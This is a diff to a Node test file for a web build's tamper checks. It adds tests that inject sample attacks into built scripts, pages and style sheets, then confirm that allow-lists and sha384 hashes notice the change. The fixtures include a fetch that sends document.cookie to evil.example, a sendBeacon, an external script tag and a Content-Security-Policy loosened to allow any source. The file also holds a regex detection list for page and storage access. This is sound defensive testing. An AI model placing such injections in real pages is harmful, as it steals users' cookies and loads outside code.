@@ -1,16 +1,20 @@
 // What a build can do is what was reviewed; and whatever is added to it is noticed: an import, a name in a script, an
 // element, an address, one more use of a name of danger.
 import assert from 'node:assert/strict';
-import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { test } from 'node:test';
 import { fileURLToPath } from 'node:url';
 import { differences, parse, rewritten } from '../../tools/allowed.mjs';
-import { capabilitiesOf, importsOf, pageOf } from '../../tools/capabilities.mjs';
+import { capabilitiesOf, entriesOf, importsOf, pageOf } from '../../tools/capabilities.mjs';
+import { integrityOf } from '../../tools/element.mjs';
+import { withoutHash } from '../../tools/headers.mjs';
+import { filesOf } from '../../tools/hosts.mjs';
+import { MANIFEST, manifestOf } from '../../tools/manifest.mjs';
 
 const root = fileURLToPath(new URL('../..', import.meta.url));
-const PARTS = { imports: /^import$/, scripts: /^[^/]*\.js$/, publish: /^publish\/.*\.js$/, page: /^(elements|addresses)$/ };
+const PARTS = { imports: /^import$/, documents: /^documents$/, scripts: /^[^/]*\.js$/, publish: /^publish\/.*\.js$/, page: /^(elements|addresses)$/ };
 const listOf = (name) => parse(readFileSync(join(root, 'tools/allowed', `${name}.txt`), 'utf8'));
 
 for (const [name, part] of Object.entries(PARTS)) {
@@ -21,6 +25,82 @@ for (const [name, part] of Object.entries(PARTS)) {
     assert.equal(rewritten(listOf(name), found), readFileSync(join(root, 'tools/allowed', `${name}.txt`), 'utf8'));
   });
 }
+
+// What somebody would put into a file of each kind.
+const TAMPERED = {
+  js: (text) => [`${text}\nfetch('https://evil.example/' + document.cookie);\n`, `navigator.sendBeacon('https://evil.example/', 'x');${text}`],
+  html: (text) => [
+    text.replace('</body>', '<script src="https://evil.example/x.js"></script></body>'),
+    text.replace('<body', '<body onload="fetch(location)"'),
+    text.replace(/<meta http-equiv[^>]*>/, ''),
+    text.replace("default-src 'none'", 'default-src *'),
+    text.replace('</head>', '<base href="https://evil.example/"></head>'),
+  ],
+  css: (text) => [`@import 'https://evil.example/x.css';${text}`, `${text}\nbody { background: url(https://evil.example/x) }`],
+};
+
+test('every script, page and style sheet of the build is on the lists, and one that was tampered with is noticed by them', () => {
+  const dist = join(root, 'dist');
+  const files = filesOf(dist);
+  const glueOf = (folder) => readFileSync(join(dist, files.find((file) => file.startsWith(folder) && withoutHash(file) === `${folder}crosscheck.js`)), 'utf8');
+  const known = new Set([...Object.keys(PARTS).flatMap((name) => [...listOf(name).entries.keys()])]);
+  const key = ({ part, what, count }) => `${part} ${what}${count === undefined ? '' : ` ×${count}`}`;
+  /** What is new in a file, or gone from what it was `before`. */
+  const unknown = (file, text, before = []) => {
+    const [, folder, name] = /^(id\/)?(.*)$/.exec(file);
+    try {
+      // Texts of another language speak of other things; what they can do is the same.
+      const found = entriesOf(withoutHash(name), text, glueOf(folder ?? '')).map(key);
+      const lost = before.filter((each) => !found.includes(each));
+      return [...found.filter((each) => !known.has(each) && !(folder && / '…/.test(each))), ...lost];
+    } catch (error) {
+      return [error.message];
+    }
+  };
+  let tried = 0;
+  for (const file of files) {
+    const tamper = TAMPERED[file.split('.').pop()];
+    if (!tamper) {
+      assert.match(file, /\.(wasm|json)$/, `${file} is of a kind that nothing looks at`);
+      continue;
+    }
+    const text = readFileSync(join(dist, file), 'utf8');
+    assert.deepEqual(unknown(file, text), [], file);
+    const before = entriesOf(withoutHash(file.replace(/^id\//, '')), text, glueOf(file.startsWith('id/') ? 'id/' : '')).map(key);
+    if (!file.endsWith('.css')) assert.ok(before.length > 0, `${file} is on no list`);
+    for (const other of tamper(text)) {
+      assert.notEqual(other, text, `${file} was not changed`);
+      assert.notDeepEqual(unknown(file, other, before), [], `what was put into ${file} went unnoticed: ${other.length}`);
+      tried += 1;
+    }
+  }
+  assert.ok(tried > 60, `only ${tried}`);
+});
+
+test('any other change of any file is noticed by its hash: in the list of the checkup, and of the program in every page', (t) => {
+  const copy = mkdtempSync(join(tmpdir(), 'crosscheck-tampered-'));
+  t.after(() => rmSync(copy, { recursive: true }));
+  cpSync(join(root, 'dist'), copy, { recursive: true });
+  const list = JSON.parse(readFileSync(join(copy, MANIFEST), 'utf8'));
+  assert.deepEqual(manifestOf(copy), list);
+  const read = (file) => readFileSync(join(copy, file));
+  for (const file of filesOf(copy)) {
+    const whole = read(file);
+    const other = Buffer.from(whole);
+    other[whole.length >> 1] ^= 1;
+    writeFileSync(join(copy, file), other);
+    const stated = file === MANIFEST ? read(MANIFEST).toString().trim() !== JSON.stringify(list) : list.files.find(({ path }) => path === file).sha384[0] !== integrityOf(other).slice('sha384-'.length);
+    assert.ok(stated, file);
+    if (file.endsWith('.wasm')) {
+      const folder = file.startsWith('id/') ? 'id/' : '';
+      for (const page of ['index.html', 'frame.html', filesOf(copy).find((name) => withoutHash(name) === `${folder}inline.js`).slice(folder.length)]) {
+        const text = read(folder + page).toString();
+        assert.ok(text.includes(integrityOf(whole)) && !text.includes(integrityOf(other)), `${folder}${page} does not hold ${file} to its hash`);
+      }
+    }
+    writeFileSync(join(copy, file), whole);
+  }
+});
 
 test('no import of the program reaches a network, another address, a cookie or an evaluator', () => {
   const reaching =
@@ -39,7 +119,7 @@ test('no element of ours can load, and no address of ours leads elsewhere than t
 });
 
 test('the self-test gets no answer: it reads nothing of the page, its fields or its storage, and sends only to a name that cannot exist', () => {
-  const text = readFileSync(join(root, 'www/self-test.js'), 'utf8').replace(/^\s*(\/\/|\/?\*).*$/gm, '');
+  const text = readFileSync(join(root, 'www/self-test.js'), 'utf8').replace(/^\s*(\/\/|\/?\*).*$/gm, '').replace(/^const LEFT = \[\n(?: {2}'[^'\n]*',\n)+\];$/m, '');
   const reading =
     /querySelector|getElement|evaluate|localStorage|sessionStorage|indexedDB|caches|cookie|inner(Text|HTML)|outerHTML|FormData|FileReader|\.files|\.elements|\.forms|\.(parent|previous|next|first|last|children|childNodes)\w*\b|getRootNode|closest|getSelection|clipboard|shadowRoot|contentDocument|contentWindow|postMessage|MutationObserver|\.hash|\.search\b/;
   assert.doesNotMatch(text, reading);
